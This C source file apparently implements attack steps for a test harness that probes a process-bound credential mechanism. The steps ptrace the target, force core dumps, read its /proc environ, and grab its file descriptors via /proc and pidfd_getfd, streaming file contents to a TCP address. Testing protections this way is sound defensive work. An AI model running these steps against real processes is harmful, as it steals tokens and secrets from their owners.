// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* The ways around a credential's file, through the process it is bound to,
 * as pb_actor steps (each with real syscalls; PIDFILE holds the target's
 * PID):
 *   trace:PIDFILE          PTRACE_SEIZE the process (it is traced until this
 *                          actor exits; seizing does not stop it)
 *   prlimit-core:PIDFILE   raise its core limit to unlimited (soft and hard)
 *   signal:PIDFILE:SIG     send it SIG (ABRT, QUIT, SEGV, TERM or KILL)
 *   environ:PIDFILE:OUT    read /proc/PID/environ; what was read goes to OUT
 *   fanmark:FILE           a fanotify group of its own (FAN_CLASS_CONTENT)
 *                          with a FAN_OPEN_PERM mark on FILE
 *   snatchfd:PID:FD:SPEC   until process PID has exited: reopen
 *                          /proc/PID/fd/FD and take FD with pidfd_getfd,
 *                          and send whatever a regular file among them
 *                          gives to SPEC (tcp:ADDR:PORT); then "<pid>
 *                          snatch opened=N taken=N refused=N bytes=N"
 *                          (bytes: of any file the descriptor was, such as
 *                          a library the target's loader had open there)
 * Result lines as every step's: "<pid> <step> ok|ERRNO". */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <linux/magic.h>
#include <time.h>
#include <unistd.h>

#include "pb_steal.h"

static int do_environ(const char *arg)
{
	char pf[512], path[64], buf[65536];
	const char *out = strrchr(arg, ':');
	ssize_t n;
	FILE *o;
	int fd, pid;

	if (!out)
		return EINVAL;
	snprintf(pf, sizeof(pf), "%.*s", (int)(out - arg), arg);
	if ((pid = pb_read_int_file(pf)) <= 0)
		return ENOENT;
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n < 0)
		return errno;
	o = fopen(out + 1, "w");
	if (!o)
		return errno;
	fwrite(buf, 1, (size_t)n, o);
	return fclose(o) ? errno : 0;
}

static int signal_number(const char *name)
{
	static const struct {
		const char *name;
		int sig;
	} sigs[] = {{"ABRT", SIGABRT}, {"QUIT", SIGQUIT}, {"SEGV", SIGSEGV},
		    {"TERM", SIGTERM}, {"KILL", SIGKILL}};

	for (size_t i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		if (!strcmp(name, sigs[i].name))
			return sigs[i].sig;
	return -1;
}

static int do_signal(const char *arg)
{
	char pf[512];
	const char *name = strrchr(arg, ':');
	int pid, sig;

	if (!name || (sig = signal_number(name + 1)) < 0)
		return EINVAL;
	snprintf(pf, sizeof(pf), "%.*s", (int)(name - arg), arg);
	if ((pid = pb_read_int_file(pf)) <= 0)
		return ENOENT;
	return kill(pid, sig) ? errno : 0;
}

static int do_fanmark(const char *file)
{
	int g = fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY | O_CLOEXEC);
	int err = 0;

	if (g < 0)
		return errno;
	if (fanotify_mark(g, FAN_MARK_ADD, FAN_OPEN_PERM, AT_FDCWD, file))
		err = errno;
	close(g);
	return err;
}

/* Read a descriptor that is a regular file (the token's) to the sink. */
static long snatch_read(int fd, int sink, int *refused)
{
	char buf[4096];
	struct statfs sf;
	struct stat st;
	ssize_t n;

	/* before the hand-over, descriptor 3 is procbindctl's own: the
	 * workload socket, or /proc/self/stat (the start time it sends) */
	if (fstat(fd, &st) || !S_ISREG(st.st_mode) || fstatfs(fd, &sf) ||
	    sf.f_type == PROC_SUPER_MAGIC)
		return 0;
	n = pread(fd, buf, sizeof(buf), 0);
	if (n < 0) {
		*refused += errno == EPERM;
		return 0;
	}
	if (n > 0 && send(sink, buf, (size_t)n, MSG_NOSIGNAL) < 0)
		return -1;
	return n;
}

static int do_snatchfd(const char *arg)
{
	char buf[512], path[64], *pidp = buf, *fdp, *spec;
	int pid, tfd, pidfd, sink, err, opened = 0, taken = 0, refused = 0;
	long bytes = 0;
	struct timespec t0, now;

	snprintf(buf, sizeof(buf), "%s", arg);
	if (!(fdp = strchr(pidp, ':')) || !(spec = strchr(fdp + 1, ':')))
		return EINVAL;
	*fdp++ = 0;
	*spec++ = 0;
	pid = atoi(pidp);
	tfd = atoi(fdp);
	if ((err = pb_connect_spec(spec, &sink)))
		return err;
	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		return errno;
	snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, tfd);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		struct pollfd p = {.fd = pidfd, .events = POLLIN};
		int fd;

		if (poll(&p, 1, 0) > 0)
			break; /* it has exited */
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - t0.tv_sec > 20)
			break;
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0) {
			opened++;
			bytes += snatch_read(fd, sink, &refused);
			close(fd);
		} else {
			refused += errno == EPERM;
		}
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, tfd, 0);
		if (fd >= 0) {
			taken++;
			bytes += snatch_read(fd, sink, &refused);
			close(fd);
		}
	}
	close(pidfd);
	close(sink);
	printf("%d snatch opened=%d taken=%d refused=%d bytes=%ld\n", getpid(), opened, taken,
	       refused, bytes);
	return 0;
}

int pb_around_step(const char *s, const char *arg, int *err)
{
	int pid;

	if (!strncmp(s, "trace:", 6)) {
		pid = pb_read_int_file(arg);
		*err = pid <= 0 ? ENOENT : ptrace(PTRACE_SEIZE, pid, 0, 0) ? errno : 0;
	} else if (!strncmp(s, "prlimit-core:", 13)) {
		const struct rlimit inf = {RLIM_INFINITY, RLIM_INFINITY};

		pid = pb_read_int_file(arg);
		*err = pid <= 0 ? ENOENT : prlimit(pid, RLIMIT_CORE, &inf, NULL) ? errno : 0;
	} else if (!strncmp(s, "signal:", 7)) {
		*err = do_signal(arg);
	} else if (!strncmp(s, "environ:", 8)) {
		*err = do_environ(arg);
	} else if (!strncmp(s, "fanmark:", 8)) {
		*err = do_fanmark(arg);
	} else if (!strncmp(s, "snatchfd:", 9)) {
		*err = do_snatchfd(arg);
	} else {
		return 0;
	}
	return 1;
}
